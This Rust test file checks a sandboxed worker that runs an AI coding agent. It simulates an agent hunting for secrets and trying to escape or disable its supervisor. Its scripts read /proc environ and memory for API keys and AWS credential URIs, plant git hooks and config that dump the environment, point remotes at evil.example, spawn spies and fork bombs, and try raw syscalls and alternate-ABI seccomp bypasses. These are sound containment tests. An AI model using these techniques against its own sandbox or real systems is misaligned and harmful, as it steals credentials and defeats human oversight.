//! An agent that wants the secrets. The worker and the agent run as one unprivileged user without
//! capabilities, the worker as PID 1 of its own PID namespace with its own `/proc`: as in the
//! container.

use std::{os::unix::fs::PermissionsExt, process::Command};

use ralph_protocol::names::worker_env as env;
use serde_json::json;

use crate::harness::{AGENT, Done, Fixture, KEY, Running, WORKER, progress, run_id, write};

/// What is added runs as PID 1 of a namespace, as nobody, without capabilities.
fn unprivileged() -> Command {
    let mut unshare = crate::harness::unshare();
    unshare.arg("setpriv");
    if rustix::process::getuid().is_root() {
        unshare.args(["--reuid=65534", "--regid=65534", "--clear-groups"]);
    }
    unshare.args(["--bounding-set=-all", "--inh-caps=-all", "--no-new-privs"]);
    // PID 1 leads a session and a group, as a container's first process does.
    unshare.arg("setsid");
    unshare
}

/// Gives everything in the fixture to nobody.
fn give(fixture: &Fixture) {
    if rustix::process::getuid().is_root() {
        let mut chown = Command::new("chown");
        let status = chown.args(["-hR", "65534:65534"]).arg(fixture.dir.path()).status();
        assert!(status.unwrap().success());
    }
}

/// Runs the fixture's worker as PID 1 of a namespace, as nobody.
fn contained(fixture: &Fixture) -> Running {
    // Everything the user nobody must reach: the fixture, and the programs.
    let bin = fixture.path("bin");
    std::fs::create_dir(&bin).unwrap();
    for (program, name) in [(WORKER, "worker"), (AGENT, "agent")] {
        std::fs::copy(program, bin.join(name)).unwrap();
    }
    let command =
        fixture.env[env::AGENT_COMMAND].replace(AGENT, bin.join("agent").to_str().unwrap());
    let mut envs = fixture.env.clone();
    envs.insert(env::AGENT_COMMAND.to_owned(), command);
    give(fixture);
    let mut unshare = unprivileged();
    unshare.env_clear().envs(&envs);
    unshare.arg(bin.join("worker"));
    Running::new(unshare)
}

/// Runs it to its end.
pub fn ended(fixture: &Fixture) -> Done {
    contained(fixture).wait()
}

pub fn fixture() -> Fixture {
    let fixture = Fixture::new();
    let mode = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(fixture.dir.path(), mode).unwrap();
    fixture
}

/// Shows what the worker's process gives away; every line says what it tried.
const LOOK: &str = r#"
for name in environ mem maps auxv cmdline; do
  echo "== $name"; cat /proc/1/$name 2>&1 | tr '\0' '\n' | head -c 100000
done
echo "== fd"; ls -l /proc/1/fd 2>&1
for fd in 0 1 2 3 4 5 6 7 8 9; do cat /proc/1/fd/$fd 2>&1 < /dev/null | head -c 1000; done
echo "== others"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a -e RALPH_ANTHROPIC -e RALPH_GIT
echo "== root"; ls /proc/1/root 2>&1; ls /proc/1/cwd 2>&1
echo "== who"; id -u; grep -a -e CapEff -e NoNewPrivs /proc/self/status
echo "core $(ulimit -c)"; grep -a 'Max core' /proc/1/limits
echo "== metadata"; env | grep -a -e AWS_ -e ECS_
echo "== links"; cat PROGRESS.md PROMPT.md /proc/1/cwd/x 2>&1 | head -c 1000
ps -o pid= -p 1 >/dev/null 2>&1; tr '\0' ' ' < /proc/1/comm
true
"#;

#[test]
fn the_workers_process_gives_nothing_away() {
    let mut fixture = fixture();
    // What Fargate tells the container, and the way to the task's credentials.
    fixture.set("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials/hunter2-task");
    fixture.set("ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2/v4/hunter2-metadata");
    fixture.calls(json!([[{"run": ["sh", "-c", LOOK]}, progress(true)]]));
    // The harness fails on any line that holds a secret; but a secret would be redacted there, so
    // the agent's own view is what counts.
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let seen = done.of("agent.tool_result")[0]["text"].as_str().unwrap().to_owned();
    let nobody = !rustix::process::getuid().is_root() || seen.contains("== who\n65534\n");
    assert!(nobody, "not the unprivileged user: {seen}");
    assert!(seen.contains("CapEff:\t0000000000000000"), "{seen}");
    for name in ["environ", "mem", "maps", "auxv"] {
        let (_, after) = seen.split_once(&format!("== {name}\n")).unwrap();
        assert!(after.lines().next().unwrap().contains("Permission denied"), "{name}: {after}");
    }
    assert!(!seen.contains("[redacted]"), "the agent saw a secret: {seen}");
    assert!(!seen.contains("RALPH_ANTHROPIC"), "{seen}");
    assert!(seen.contains("core 0"), "core dumps are on: {seen}");
    let (_, after) = seen.split_once("== metadata\n").unwrap();
    assert!(after.starts_with("== links"), "the agent knows the way to the task's role: {after}");
}

#[test]
fn a_link_to_the_workers_environment_is_never_followed() {
    let mut fixture = fixture();
    let links = "ln -sf /proc/1/environ PROMPT.md; ln -sf /proc/self/environ PROGRESS.md; ln -s /proc/1/environ leak";
    fixture.set(env::MAX_ITERATIONS, "2");
    fixture.calls(json!([
        [{"run": ["sh", "-c", links]}],
        [{"text": "prompt was: {prompt}"}, write("a", "1")],
    ]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 10, "{done:#?}");
    let said = done.of("agent.text");
    assert_eq!(said[0]["text"], "prompt was: Do the next task.\n", "the last good prompt is used");
    // A link is committed as a link.
    assert_eq!(fixture.file("ralph/docs", "leak").as_deref(), Some("/proc/1/environ"));
}

#[test]
fn the_same_look_at_an_unguarded_process_finds_the_key() {
    // Otherwise the test above could not fail.
    let script = "sh -c \"$LOOK\"; true";
    let output = unprivileged()
        .args(["sh", "-c", script])
        .env("LOOK", LOOK)
        .env("RALPH_ANTHROPIC_KEYS", KEY)
        .output()
        .unwrap();
    let seen = String::from_utf8_lossy(&output.stdout);
    assert!(seen.contains(&format!("RALPH_ANTHROPIC_KEYS={KEY}")), "{seen}");
}

/// Plants everything a repository's configuration can run, each leaving a mark when it does.
const PLANT: &str = r#"
# A submodule at a file URL. From here on only `git config`, so that every mark is the worker's.
git init -q ../sub && git -C ../sub -c user.name=x -c user.email=x@x commit -q --allow-empty -m x
git -c protocol.file.allow=always submodule add -q file://$PWD/../sub sub
mark=$PWD/../marks; mkdir -p $mark
evil() { printf '#!/bin/sh\n(echo %s; env; cat /proc/$PPID/environ | tr "\\0" "\\n") >> %s/%s 2>/dev/null\ncat 2>/dev/null\nexit 0\n' $1 $mark $1 > ../evil-$1; chmod +x ../evil-$1; echo $PWD/../evil-$1; }
for hook in pre-commit commit-msg post-commit prepare-commit-msg pre-push post-checkout post-rewrite reference-transaction pre-rebase post-index-change; do
  cp $(evil hook-$hook) .git/hooks/$hook
done
git config core.fsmonitor $(evil fsmonitor)
git config core.sshCommand $(evil ssh)
git config core.editor $(evil editor)
git config core.pager $(evil pager)
git config credential.helper $(evil credential)
git config filter.evil.clean $(evil clean)
git config filter.evil.smudge $(evil smudge)
git config filter.evil.required true
git config gpg.program $(evil gpg)
git config commit.gpgSign true
git config diff.external $(evil diff)
git config http.proxy http://127.0.0.1:9
git config url.https://evil.example/.insteadOf file:///
git config remote.origin.pushurl https://evil.example/x
git config remote.origin.receivepack $(evil receivepack)
git config remote.origin.uploadpack $(evil uploadpack)
git config uploadpack.packObjectsHook $(evil packobjects)
git config core.hooksPath $PWD/.git/hooks
git config core.alternateRefsCommand $(evil alternates)
git config core.gitProxy $(evil gitproxy)
git config core.askPass $(evil askpass)
git config diff.evil.textconv $(evil textconv)
git config diff.evil.command $(evil command)
git config merge.evil.driver $(evil merge)
# A name with `=` cannot be switched off on a command line.
printf '[filter "a=b"]\n\tclean = %s\n\tprocess = %s\n' $(evil equals) $(evil process) > ../included
git config include.path $PWD/../included
git config includeIf.gitdir:$PWD/.git.path $PWD/../conditional
printf '[core]\n\tfsmonitor = %s\n[filter "late"]\n\tclean = %s\n' $(evil included) $(evil late) > ../conditional
git config extensions.worktreeConfig true
printf '[filter "tree"]\n\tclean = %s\n' $(evil worktree) > .git/config.worktree
# Objects of another repository, whose references are asked for by a command.
git init -q --bare ../other.git; echo $PWD/../other.git/objects > .git/objects/info/alternates
# Missing objects that a helper would fetch.
git config submodule.recurse true; git config fetch.recurseSubmodules true
git -C sub config core.sshCommand $(evil subssh); git -C sub config remote.origin.uploadpack $(evil subpack)
git config remote.promise.url "ext::$(evil ext) %S"; git config remote.promise.promisor true
git config protocol.ext.allow always
printf '*.a filter=evil diff=evil merge=evil\n*.b filter=a=b\n*.c filter=late\n*.d filter=tree\n* filter=evil\n' > .gitattributes
for x in a b c d; do echo $x > planted.$x; done
cp .git/config $HOME/.gitconfig; printf 'machine evil.example login x password y\n' > $HOME/.netrc
true
"#;

#[test]
fn what_the_agent_plants_in_git_never_runs_with_a_secret() {
    let mut fixture = fixture();
    let go = fixture.path("go").display().to_string();
    let wait = format!("echo ready; while ! test -e {go}; do sleep 0.05; done");
    fixture.calls(json!([
        [write("a", "1"), {"run": ["sh", "-c", PLANT]}, {"text": "planted"}],
        // Somebody else changes the same file, so that the worker must rebase and merge.
        [write("x.a", "1\n2\n3\n4\n5\n6\n7\n")],
        [{"run": ["sh", "-c", "sed -i s/7/seven/ x.a"]}, {"text": "ready"}, {"run": ["sh", "-c", wait]}],
        [write("b", "2")],
        [progress(true)],
    ]));
    let mut running = contained(&fixture);
    running.until_text("planted");
    running.until_text("ready");
    fixture.seed("ralph/docs", &[("x.a", "one\n2\n3\n4\n5\n6\n7\n")]);
    // Whoever pushed, the remote is nobody's.
    give(&fixture);
    std::fs::write(fixture.path("go"), "").unwrap();
    let done = running.wait();
    assert_eq!(done.exit(), 0, "{done:#?}");
    assert_eq!(fixture.file("ralph/docs", "b").as_deref(), Some("2"));
    assert_eq!(fixture.file("ralph/docs", "planted.b").as_deref(), Some("b\n"));
    let merged = fixture.file("ralph/docs", "x.a");
    assert_eq!(merged.as_deref(), Some("one\n2\n3\n4\n5\n6\nseven\n"));
    let checkout = fixture.path("work").join(run_id(1));
    let ran: Vec<_> = std::fs::read_dir(checkout.join("marks"))
        .unwrap()
        .flatten()
        .map(|mark| (mark.file_name(), std::fs::read_to_string(mark.path()).unwrap_or_default()))
        .collect();
    assert!(ran.is_empty(), "these ran, and saw: {ran:#?}");
}

#[test]
fn a_process_that_waits_for_the_push_is_gone_before_it() {
    let mut fixture = fixture();
    // In its own session, re-parented, looking for git's environment all the time.
    let spy = "setsid sh -c 'while true; do cat /proc/[0-9]*/environ 2>/dev/null | tr \"\\0\" \"\\n\" | grep -a GIT_CONFIG_VALUE >> ../spied; done' >/dev/null 2>&1 &";
    fixture.calls(json!([[write("a", "1"), {"run": ["sh", "-c", spy]}], [progress(true)]]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let spied = fixture.path("work").join(run_id(1)).join("spied");
    assert_eq!(std::fs::read_to_string(spied).unwrap_or_default(), "");
}

#[test]
fn a_process_that_never_stops_forking_is_gone_before_the_push() {
    let mut fixture = fixture();
    // Every instance lives for a moment only: whoever looks for it and then kills it comes late.
    let seen = "cat /proc/[0-9]*/comm 2>/dev/null | grep -c perl";
    let comet = format!(
        "setsid perl -e 'while (1) {{ exit if fork; }}' >/dev/null 2>&1 & until {seen}; do :; done"
    );
    fixture.calls(json!([
        [write("a", "1"), {"run": ["sh", "-c", comet]}],
        [{"run": ["sh", "-c", format!("for n in 1 2 3 4 5; do {seen}; done; true")]}, progress(true)],
    ]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    assert!(!done.text().contains("could not be ended"), "{}", done.text());
    let results = done.of("agent.tool_result");
    let count = results.iter().rev().nth(1).unwrap();
    assert_eq!(count["text"], "0\n0\n0\n0\n0\n", "{results:#?}");
}

#[test]
fn the_agent_cannot_end_the_worker_outright() {
    let mut fixture = fixture();
    fixture.calls(json!([[{"run": ["sh", "-c", "kill -KILL 1; kill -STOP 1; kill -SEGV 1; echo alive"]}, progress(true)]]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    assert!(done.text().contains("alive"));
}

#[test]
fn the_agent_cannot_end_the_worker_by_a_limit_before_a_push() {
    let mut fixture = fixture();
    // Until the worker has used more CPU (the 14th field, in hundredths of a second) than the
    // limit leaves it.
    let agent = r###"
        prlimit --pid 1 --cpu=1:1 2>&1
        until [ "$(cut -d " " -f 14 /proc/1/stat)" -gt 120 ]; do
            head -c 1000000 /dev/zero | tr "\0" x; echo
        done
        echo "## Status: COMPLETE" > PROGRESS.md"###;
    fixture.set(env::AGENT_COMMAND, format!("sh -c '{agent}'"));
    let done = ended(&fixture);
    assert_eq!(done.code, Some(0), "{}", done.stderr);
    assert_eq!(done.exit(), 0);
    assert!(done.text().contains("Operation not permitted"));
    assert!(fixture.file("ralph/docs", "PROGRESS.md").is_some());
}

/// Tries every tool that changes another process, on each of the worker's threads, its group and
/// its user. Names what worked.
const TOOLS: &str = r#"
try() { tried=$((tried + 1)); "$@" >/dev/null 2>&1 && echo "worked: $*"; }
for id in $(ls /proc/1/task); do
  try prlimit --pid $id --cpu=1:1
  try prlimit --pid $id --nofile=0:0
  try prlimit --pid $id --fsize=0:0
  try renice -n 10 -p $id
  try ionice -c 3 -p $id
  try taskset -c -p 0 $id
  try chrt --idle -p 0 $id
  try /bin/kill -TERM $id
  try python3 -c "import os; os.pidfd_open($id)"
  for signal in TERM INT KILL STOP SEGV CHLD; do try kill -$signal $id; done
done
try renice -n 10 -g 1; try renice -n 10 -g 0
try renice -n 10 -u $(id -u)
try ionice -c 3 -P 1
try ionice -c 3 -u $(id -u)
try kill -TERM -1
echo "tried $tried"
"#;

#[test]
fn no_tool_of_the_agent_ends_signals_or_slows_the_worker() {
    let mut fixture = fixture();
    fixture.calls(json!([[{"run": ["sh", "-c", TOOLS]}, write("a", "1"), progress(true)]]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let seen = done.of("agent.tool_result")[0]["text"].as_str().unwrap();
    let tried = seen.trim().strip_prefix("tried ").unwrap_or_else(|| panic!("{seen}"));
    assert!(tried.parse::<usize>().unwrap() > 30, "{seen}");
    assert_eq!(fixture.file("ralph/docs", "a").as_deref(), Some("1"));
}

/// Makes each call that its argument lists, with the id of each of the worker's threads where it
/// says "id". Prints every answer but EPERM.
const CALLS: &str = r#"
import ctypes, errno, json, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
some = ctypes.create_string_buffer(8)
memory = {
    "zeros": ctypes.create_string_buffer(256),
    "ones": ctypes.create_string_buffer(b"\xff" * 256),
    # siginfo_t: a signal that sigqueue(3) has sent.
    "info": ctypes.create_string_buffer(struct.pack("iii", 15, 0, -1), 256),
    "iovec": ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(some), 8), 256),
}
ids = [int(name) for name in os.listdir("/proc/1/task")]
tried = 0
for name, number, args in json.loads(sys.argv[1]):
    for id in ids:
        values = [ctypes.addressof(memory[a]) if a in memory else id if a == "id" else a for a in args]
        ctypes.set_errno(0)
        done = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, values))
        tried += 1
        if done != -1 or ctypes.get_errno() != errno.EPERM:
            print(name, args, id, done, os.strerror(ctypes.get_errno()))
for name in ["mnt", "net", "pid", "user"]:
    try:
        print("namespace", name, os.open("/proc/1/ns/" + name, os.O_RDONLY))
    except PermissionError:
        pass
process = os.open("/proc/1", os.O_RDONLY | os.O_DIRECTORY)
ctypes.set_errno(0)
libc.syscall(ctypes.c_long(int(sys.argv[2])), process, 15, None, 0)
print("tried", tried, "by a file:", os.strerror(ctypes.get_errno()))
"#;

#[test]
fn no_system_call_of_the_agent_reaches_the_worker() {
    let calls = json!([
        ["prlimit64", libc::SYS_prlimit64, ["id", libc::RLIMIT_NOFILE, "zeros", 0]],
        ["setpriority", libc::SYS_setpriority, [libc::PRIO_PROCESS, "id", 19]],
        ["setpriority", libc::SYS_setpriority, [libc::PRIO_PGRP, 0, 19]],
        ["setpriority", libc::SYS_setpriority, [libc::PRIO_USER, 0, 19]],
        ["ioprio_set", libc::SYS_ioprio_set, [1, "id", 3 << 13]],
        ["ioprio_set", libc::SYS_ioprio_set, [2, 0, 3 << 13]],
        ["ioprio_set", libc::SYS_ioprio_set, [3, 0, 3 << 13]],
        ["sched_setscheduler", libc::SYS_sched_setscheduler, ["id", libc::SCHED_IDLE, "zeros"]],
        ["sched_setparam", libc::SYS_sched_setparam, ["id", "zeros"]],
        ["sched_setattr", libc::SYS_sched_setattr, ["id", "zeros", 0]],
        ["sched_setaffinity", libc::SYS_sched_setaffinity, ["id", 256, "ones"]],
        ["kill", libc::SYS_kill, ["id", libc::SIGTERM]],
        // The upper half of an argument that is an int does not count.
        ["kill", libc::SYS_kill, [(1_i64 << 32) + 1, libc::SIGTERM]],
        ["kill", libc::SYS_kill, [-1, libc::SIGTERM]],
        ["kill", libc::SYS_kill, [u32::MAX, libc::SIGTERM]],
        ["tkill", libc::SYS_tkill, ["id", libc::SIGTERM]],
        ["tgkill", libc::SYS_tgkill, [1, "id", libc::SIGTERM]],
        ["rt_sigqueueinfo", libc::SYS_rt_sigqueueinfo, ["id", libc::SIGTERM, "info"]],
        ["rt_tgsigqueueinfo", libc::SYS_rt_tgsigqueueinfo, [1, "id", libc::SIGTERM, "info"]],
        ["pidfd_open", libc::SYS_pidfd_open, ["id", 0]],
        ["pidfd_open", libc::SYS_pidfd_open, ["id", libc::O_EXCL]],
        // Into the worker's group, to be signalled with it.
        ["setpgid", libc::SYS_setpgid, [0, 1]],
        // A file that sends a signal of one's choice to the process of one's choice.
        ["fcntl", libc::SYS_fcntl, [0, 10, libc::SIGTERM]],
        // What the worker being unreadable protects it from.
        ["ptrace", libc::SYS_ptrace, [libc::PTRACE_ATTACH, "id", 0, 0]],
        ["process_vm_readv", libc::SYS_process_vm_readv, ["id", "iovec", 1, "iovec", 1, 0]],
        ["process_vm_writev", libc::SYS_process_vm_writev, ["id", "iovec", 1, "iovec", 1, 0]],
        ["migrate_pages", libc::SYS_migrate_pages, ["id", 64, "zeros", "zeros"]],
        ["move_pages", libc::SYS_move_pages, ["id", 0, 0, 0, 0, 0]],
        ["get_robust_list", libc::SYS_get_robust_list, ["id", "zeros", "zeros"]],
    ]);
    let mut fixture = fixture();
    let send = libc::SYS_pidfd_send_signal.to_string();
    let script = ["python3", "-c", CALLS, &calls.to_string(), &send];
    fixture.calls(json!([[{"run": script}, write("a", "1"), progress(true)]]));
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let seen = done.of("agent.tool_result")[0]["text"].as_str().unwrap();
    assert_eq!(seen.lines().count(), 1, "{seen}");
    assert!(seen.ends_with("by a file: Function not implemented\n"), "{seen}");
    assert_eq!(fixture.file("ralph/docs", "a").as_deref(), Some("1"));
}

#[test]
fn the_worker_has_the_same_threads_for_as_long_as_it_runs() {
    // Each run of the agent is kept from the threads that are there at its start. The lookup of a
    // name needs one.
    let mut fixture = fixture();
    fixture.set(env::MODEL_ENDPOINT, "http://localhost:9");
    let threads = json!({"run": ["ls", "/proc/1/task"]});
    fixture.calls(json!([[threads, {"ask": {"body": {"model": "m"}}}, threads, progress(true)]]));
    let done = ended(&fixture);
    let results = done.of("agent.tool_result");
    assert!(results[1]["text"].as_str().unwrap().starts_with("HTTP/1.1 5"), "{results:#?}");
    assert!(results[0]["text"].as_str().unwrap().lines().count() > 1, "{results:#?}");
    assert_eq!(results[0]["text"], results[2]["text"]);
}

#[test]
fn another_abi_is_not_a_way_around_the_filter() {
    // x32's own numbers: without the filter "Function not implemented", or the call is made.
    let x32 = format!("$! = 0; syscall({}, 1, 15); print $!", 0x4000_0000_i64 + libc::SYS_kill);
    // i386: mov eax, 37 (kill); mov ebx, 1; mov ecx, 15; int 0x80; ret.
    let i386 = r#"
import ctypes, mmap
code = bytes.fromhex("53b825000000bb01000000b90f000000cd805bc3")
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
print("answered", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
"#;
    let i386 = ["sh", "-c", "python3 -c \"$1\"; echo ended with $?", "sh", i386];
    let mut fixture = fixture();
    fixture.calls(
        json!([[{"run": ["perl", "-e", x32]}, {"run": i386}, write("a", "1"), progress(true)]]),
    );
    let done = ended(&fixture);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let results = done.of("agent.tool_result");
    if cfg!(target_arch = "x86_64") {
        assert_eq!(results[0]["text"], "Operation not permitted");
        let text = results[1]["text"].as_str().unwrap();
        assert!(text.starts_with("ended with 159\n"), "not by SIGSYS: {text}");
    }
    assert_eq!(fixture.file("ralph/docs", "a").as_deref(), Some("1"));
}

#[test]
fn agent_and_verify_command_have_no_rights_even_as_root() {
    let mut fixture = Fixture::new();
    let show = r#"grep -E "^(Cap|NoNewPrivs|Seccomp:)" /proc/self/status"#;
    fixture.set(env::VERIFY_COMMAND, format!("{show} > {}", fixture.path("verify").display()));
    fixture.calls(json!([[{"run": ["sh", "-c", show]}, progress(true)]]));
    let done = fixture.spawn_contained().wait();
    assert_eq!(done.exit(), 0, "{done:#?}");
    let agent = done.of("agent.tool_result")[0]["text"].as_str().unwrap();
    let verify = std::fs::read_to_string(fixture.path("verify")).unwrap();
    for seen in [agent, &verify] {
        for line in seen.lines() {
            let (name, value) = line.split_once(":\t").unwrap();
            let none = match name {
                "NoNewPrivs" => "1",
                "Seccomp" => "2",
                // What is left of it without the right to drop it cannot be gained.
                "CapBnd" if !rustix::process::getuid().is_root() => continue,
                _ => "0000000000000000",
            };
            assert_eq!(value, none, "{seen}");
        }
        assert_eq!(seen.lines().count(), 7, "{seen}");
    }
}

#[test]
fn where_the_kernel_takes_no_filter_no_agent_is_started() {
    use seccompiler::{SeccompAction, SeccompFilter, apply_filter};
    let mut fixture = fixture();
    fixture.counted_calls(json!([[progress(true)]]));
    let missing = SeccompAction::Errno(libc::ENOSYS.cast_unsigned());
    let rules = [(libc::SYS_seccomp, vec![])].into();
    let arch = std::env::consts::ARCH.try_into().unwrap();
    let filter = SeccompFilter::new(rules, SeccompAction::Allow, missing, arch).unwrap();
    let mut command = fixture.command();
    // A filter is its thread's, and of the processes that the thread starts.
    let started = std::thread::spawn(move || {
        apply_filter(&seccompiler::BpfProgram::try_from(filter).unwrap()).unwrap();
        command.output().unwrap()
    });
    let output = started.join().unwrap();
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(50), "{said}");
    assert!(said.starts_with("error: cannot guard the process: it takes no filter"), "{said}");
    assert_eq!((fixture.count(), output.stdout), (0, Vec::new()));
}
